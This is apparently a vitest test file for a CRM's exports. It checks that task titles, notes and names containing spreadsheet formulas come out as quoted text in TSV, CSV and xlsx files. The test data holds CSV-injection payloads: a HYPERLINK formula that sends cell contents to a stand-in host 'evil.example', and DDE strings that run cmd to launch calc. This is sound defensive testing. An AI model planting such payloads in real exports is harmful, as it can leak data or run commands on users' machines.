/**
 * No export hands a spreadsheet a formula from data: task titles, notes, outcome notes and the
 * names of clients, contacts and employees starting with `=`, `+`, `-`, `@`, a tab or a CR
 * reach every export — the CRM's TSV and xlsx (`admin export tasks|contact-events`), every
 * registered report as CSV and xlsx, the month's content workbook (`admin content export`) —
 * as text with a leading `'`, and the content workbook reads back as it was written.
 */
import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import iconv from 'iconv-lite';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { getContent } from '../../src/db/contents.js';
import { LPR_KIND } from '../../src/jobs/lpr-monthly.js';
import { REPORTS } from '../../src/reports/index.js';
import { addClient, addContact, addDepartment, addEmployee } from '../fixtures/desk.js';
import { runCapturedCli } from '../helpers/cli.js';
import { createTestEnv, type TestEnv } from '../helpers/env.js';
import { SAMPLE_DIR } from '../mailing/fixtures.js';

/** A hostile start for each kind of field; each is a formula (or a DDE call) to a spreadsheet. */
const HOSTILE = {
  title: '=HYPERLINK("http://evil.example/?d="&A1,"Подробнее")',
  note: '@SUM(1+1)*cmd|" /C calc"!A0',
  outcome: '+7 (4722) 33-44-55 =1+1',
  client: '-2+3+cmd|" /C calc"!A0',
  contact: '\t=1+1 Иванова',
  employee: '\r=1+1 Лукина',
};
/** Where a cell starts like a formula: the neutraliser missed it. */
const FORMULA = /^[=+\-@\t\r]/;

let t: TestEnv;
let root: string;
const cli = (...argv: string[]) => runCapturedCli(t.config, argv);

beforeAll(async () => {
  t = await createTestEnv();
  root = mkdtempSync(join(tmpdir(), 'cg-formula-'));
  const db = t.app.pool;
  const dep = await addDepartment(db, 'Дистанционный сервис_502');
  const employee = await addEmployee(db, { name: HOSTILE.employee, role: 'remote', departmentId: dep });
  const client = await addClient(db, { number: 204036, name: HOSTILE.client, remoteId: employee, fieldId: employee });
  const contact = await addContact(db, { clientId: client, fullName: HOSTILE.contact, isLpr: true });
  const { rows } = await db.query<{ id: number }>(
    `INSERT INTO tasks (kind, title, assignee_id, client_id, contact_id, planned_at, due_at, dedup_key, created_by, note)
     VALUES ('lpr-call', $1, $2, $3, $4, '2024-07-10T09:00:00+03:00', '2024-07-10T18:00:00+03:00', 'formula.test', 'test', $5)
     RETURNING id`,
    [HOSTILE.title, employee, client, contact, HOSTILE.note],
  );
  await db.query(
    `INSERT INTO contact_events (client_id, contact_id, contact_name, employee_id, channel, occurred_at, outcome, goal, note, result, task_id, natural_key)
     VALUES ($1, $2, $3, $4, 'phone', '2024-07-10T11:30:00+03:00', 'held', $5, $6, $7, $8, 'formula.event')`,
    [client, contact, HOSTILE.contact, employee, HOSTILE.title, HOSTILE.note, HOSTILE.outcome, rows[0]?.id],
  );
});
afterAll(async () => {
  rmSync(root, { recursive: true, force: true });
  await t.close();
});

/** Every text cell of every sheet of a workbook. */
async function xlsxTexts(path: string): Promise<string[]> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.readFile(path);
  const out: string[] = [];
  for (const ws of wb.worksheets)
    ws.eachRow((row) =>
      row.eachCell((cell) => {
        const v = cell.value;
        if (v && typeof v === 'object' && 'formula' in v) throw new Error(`${ws.name}!${cell.address} holds a formula`);
        if (typeof v === 'string') out.push(v);
      }),
    );
  return out;
}

/** The cells of a CSV (RFC 4180, quoted fields may hold commas, quotes and line breaks). */
function csvCells(text: string): string[] {
  const cells: string[] = [];
  const re = /("(?:[^"]|"")*"|[^,\r\n]*)(,|\r\n|$)/g;
  for (let m = re.exec(text); m && m[0] !== ''; m = re.exec(text)) {
    const f = m[1] as string;
    cells.push(f.startsWith('"') ? f.slice(1, -1).replace(/""/g, '"') : f);
  }
  return cells;
}

function expectNeutral(cells: string[], where: string, mustContain: string[]) {
  const bad = cells.filter((c) => FORMULA.test(c));
  expect(bad, `${where}: cells starting like a formula`).toEqual([]);
  for (const text of mustContain)
    expect(
      cells.some((c) => c.includes(text.trim())),
      `${where}: ${JSON.stringify(text)} is missing`,
    ).toBe(true);
}

describe('formula injection in exports', () => {
  it('the CRM export (tasks and contact events, TSV and xlsx) quotes every cell', async () => {
    for (const kind of ['tasks', 'contact-events']) {
      const tsv = join(root, `${kind}.tsv`);
      const res = await cli('export', kind, '--from', '2024-07-01', '--to', '2024-07-31', '--out', tsv);
      expect(res.code, res.err).toBe(0);
      const cells = iconv
        .decode(readFileSync(tsv), 'win1251')
        .split('\r\n')
        .filter(Boolean)
        .flatMap((l) => l.split('\t'));
      // The title goes into «Цель контакта»; the note keeps churnguard's reference at its end.
      expect(cells).toContain(`'${HOSTILE.title}`);
      expect(cells.some((c) => c.startsWith(`'${HOSTILE.note}`) && /\[cg:task \d+\]$/.test(c))).toBe(true);
      expectNeutral(cells, `${kind}.tsv`, [HOSTILE.title, HOSTILE.note]);

      const xlsx = join(root, `${kind}.xlsx`);
      expect((await cli('export', kind, '--from', '2024-07-01', '--to', '2024-07-31', '--format', 'xlsx', '--out', xlsx)).code).toBe(0);
      const texts = await xlsxTexts(xlsx);
      expect(texts).toContain(`'${HOSTILE.title}`);
      expectNeutral(texts, `${kind}.xlsx`, [HOSTILE.title, HOSTILE.note]);
    }
    // The names (contact, employee) are in the tasks export; the outcome note in the events'.
    const tasks = await xlsxTexts(join(root, 'tasks.xlsx'));
    expect(tasks).toContain("'=1+1 Иванова");
    expect(tasks).toContain("'=1+1 Лукина");
    expect(await xlsxTexts(join(root, 'contact-events.xlsx'))).toContain(`'${HOSTILE.outcome}`);
  });

  it('every registered report, as CSV and xlsx, quotes every text cell', async () => {
    let seen = 0;
    for (const report of REPORTS) {
      const csv = await cli('report', report.name, '--format', 'csv', '--now', '2024-07-15T09:00:00+03:00');
      expect(csv.code, `${report.name}: ${csv.err}`).toBe(0);
      const cells = csvCells(csv.out.replace(/^\uFEFF/, ''));
      expectNeutral(cells, `${report.name}.csv`, []);
      const out = join(root, `${report.name}.xlsx`);
      const xlsx = await cli('report', report.name, '--format', 'xlsx', '--out', out, '--now', '2024-07-15T09:00:00+03:00');
      expect(xlsx.code, `${report.name}: ${xlsx.err}`).toBe(0);
      const texts = await xlsxTexts(out);
      expectNeutral(texts, `${report.name}.xlsx`, []);
      if ([...cells, ...texts].some((c) => /^'[=+\-@\t\r]/.test(c))) seen++;
    }
    // The hostile names and titles did reach reports (else the loop above proved nothing).
    expect(seen).toBeGreaterThan(0);
  });

  it('the content workbook (admin content export) quotes its cells and reads back unchanged', async () => {
    const dir = join(root, 'content');
    cpSync(SAMPLE_DIR, dir, { recursive: true });
    rmSync(join(dir, 'content.xlsx'));
    const json = JSON.parse(readFileSync(join(dir, 'content.json'), 'utf8'));
    json.documents[0].note = HOSTILE.note;
    json.magazine[0].title = HOSTILE.outcome;
    writeFileSync(join(dir, 'content.json'), JSON.stringify(json));
    const load = await cli('content', 'load', dir);
    expect(load.code, load.err).toBe(0);
    const out = join(root, 'exported');
    const exp = await cli('content', 'export', json.period, '--out', out);
    expect(exp.code, exp.err).toBe(0);
    const texts = await xlsxTexts(join(out, 'content.xlsx'));
    expect(texts).toContain(`'${HOSTILE.note}`);
    expect(texts).toContain(`'${HOSTILE.outcome}`);
    expectNeutral(texts, 'content.xlsx', [HOSTILE.note]);
    // Loading the exported workbook gives the same content: the quote is the export's, not the text's.
    const reload = await cli('content', 'load', out);
    expect(reload.code, reload.err).toBe(0);
    const after = await getContent(t.app.pool, LPR_KIND, json.period);
    expect(after?.content.documents[0]?.note).toBe(HOSTILE.note);
    expect(after?.content.magazine[0]?.title).toBe(HOSTILE.outcome);
    expect(JSON.stringify(after?.content)).not.toContain('"\'');
  });
});
